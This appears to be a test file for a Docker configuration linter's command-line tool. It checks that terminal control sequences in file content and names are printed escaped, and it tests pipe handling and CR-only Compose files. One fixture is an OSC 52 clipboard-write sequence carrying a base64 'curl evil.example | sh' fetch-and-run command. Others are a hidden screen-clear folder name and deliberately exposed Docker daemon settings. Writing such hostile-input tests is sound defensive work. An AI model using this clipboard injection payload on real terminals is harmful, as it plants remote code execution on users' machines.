// The CLI's output on hostile input (issue 16, item 13): file content and names reach a
// terminal, so control characters (ESC, OSC 52 clipboard writes) are shown escaped, never
// sent raw; a reader that goes away (`| head -1`) ends the run quietly; a Compose file with
// CR-only line breaks is read as YAML 1.2 reads it.

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { visible } from '../../server/src/cli/format';
import { defaultLintOptions } from '../../server/src/engine/config';
import { fixAll } from '../../server/src/engine/fix';
import { lintFiles } from '../../server/src/engine/lint';
import { uriOf } from '../helpers/rule-tester';
import { cliPath, tree } from '../helpers/cli';

/** Every C0/C1 control except line feed, and DEL: what a terminal may act on. */
const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('terminal escape sequences are neutralised in text output', () => {
  const osc52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
  const clear = '\u001b[2J\u001b[H';

  it('from file content: a host with OSC 52 and a screen clear is printed escaped', () => {
    const root = tree({ 'etc/docker/daemon.json': `{"hosts": ["tcp://0.0.0.0:2375${osc52}${clear}"]}\n` });
    const { stdout, status } = spawnSync(process.execPath, [cliPath, '.'], { cwd: root, encoding: 'utf8' });
    assert.equal(status, 1);
    assert.doesNotMatch(stdout, controls, 'no raw control character reaches the terminal');
    assert.match(stdout, /\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07/);
  });

  it('from file names: a folder named with ESC [ 2 J', () => {
    const root = tree({ [`hosts/x${clear}/etc/docker/daemon.json`]: '{"hosts": ["tcp://0.0.0.0:2375"]}\n' });
    const linted = spawnSync(process.execPath, [cliPath, '.'], { cwd: root, encoding: 'utf8' });
    assert.doesNotMatch(linted.stdout, controls);
    assert.match(linted.stdout, /^hosts\/x\\x1b\[2J\\x1b\[H\/etc\/docker\/daemon\.json \(daemon-json\)$/m);
    const fixed = spawnSync(process.execPath, [cliPath, '--fix', '.'], { cwd: root, encoding: 'utf8' });
    assert.doesNotMatch(fixed.stderr, controls);
    assert.match(fixed.stderr, /fixed .*hosts\/x\\x1b\[2J\\x1b\[H\/etc\/docker\/daemon\.json$/m);
  });

  it('visible() escapes C0, DEL, C1 and bidirectional overrides, and leaves other text alone', () => {
    assert.equal(visible('a\u001bb\u007fc\u009bd\u202ee\tf'), 'a\\x1bb\\x7fc\\x9bd\\u202ee\\x09f');
    assert.equal(visible('plain: ünïcødé ✓'), 'plain: ünïcødé ✓');
  });
});

describe('a reader that goes away', () => {
  it('`dockerd-lint . | head -1`: no EPIPE stack, and the exit status still says what was found', async () => {
    // Enough findings that the output outlives the reader.
    const files = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`h${i}/etc/docker/daemon.json`, '{"hosts": ["tcp://0.0.0.0:2375"]}\n']));
    const root = tree(files);
    const child = spawn(process.execPath, [cliPath, '.'], { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    // The reader takes the first chunk and closes its end, as head does after a line.
    child.stdout.once('data', () => child.stdout.destroy());
    const status = await new Promise<number | null>((resolve) => child.once('close', resolve));
    assert.doesNotMatch(stderr, /EPIPE|Error|at /, stderr);
    assert.equal(status, 1);
  });
});

describe('CR-only line breaks (YAML 1.2: CR is a line break)', () => {
  const lines = ['services:', '  dind:', '    image: docker:dind', '    privileged: true', '    environment:', '      DOCKER_TLS_CERTDIR: ""', '    ports:', '      - "2375:2375"'];

  it('a CR-only Compose file gets the same findings, on the same lines, as its LF twin', () => {
    const summary = (text: string) => {
      const [result] = lintFiles([{ uri: uriOf('project/compose.yaml'), text }], defaultLintOptions());
      return result.findings.map((finding) => `${finding.ruleId}@${finding.span.start}`);
    };
    const lf = summary(`${lines.join('\n')}\n`);
    assert.ok(lf.some((finding) => finding.startsWith('dind-tls-disabled')));
    assert.deepEqual(summary(`${lines.join('\r')}\r`), lf);
  });

  it('fix-all on a CR-only Compose file edits it as its LF twin, ending lines with CR (it once emptied the file)', () => {
    const uri = uriOf('project/compose.yaml');
    const fixed = (eol: string) => fixAll([{ uri, text: `${lines.join(eol)}${eol}` }], defaultLintOptions()).texts.get(uri)!;
    const lf = fixed('\n');
    // The stack remediation turns dind's TLS on and moves the published port with it.
    assert.doesNotMatch(lf, /DOCKER_TLS_CERTDIR/);
    assert.match(lf, /"2376:2376"/);
    assert.equal(fixed('\r'), lf.replace(/\n/g, '\r'));
  });
});
